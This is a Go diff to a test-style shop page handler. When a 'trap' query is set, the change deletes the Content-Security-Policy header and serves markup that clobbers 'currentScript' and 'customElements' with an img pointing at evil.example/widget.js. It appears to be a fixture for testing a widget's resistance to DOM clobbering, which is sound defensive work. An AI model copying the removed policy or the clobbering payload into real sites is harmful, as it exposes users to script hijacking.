@@ -111,7 +111,8 @@ func (p pictures) show(w http.ResponseWriter, o page.Order) {
 func (s *scene) shop(w http.ResponseWriter, r *http.Request) {
 	w.Header().Set("Content-Type", "text/html; charset=utf-8")
 	w.Header().Set("Content-Security-Policy", "default-src 'none'; script-src "+s.System+"; connect-src "+s.System+"; img-src data:; style-src 'none'; base-uri 'none'")
-	if r.URL.Query().Has("trap") { // what somebody may have left in a comment that this page shows: no script, but names that scripts know
+	if r.URL.Query().Has("trap") { // a shop without a policy that shows what somebody left in a comment: no script, but names that scripts know
+		w.Header().Del("Content-Security-Policy")
 		fmt.Fprintf(w, `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Thank you</title>
 <link rel="icon" href="data:,"><script src="%s/widget.js" defer></script></head>
 <body><main><h1>Thank you</h1><img name="currentScript" alt="" src="https://evil.example/widget.js"><form name="customElements"></form><doorstep-tracking token="%s"></doorstep-tracking></main></body></html>`,
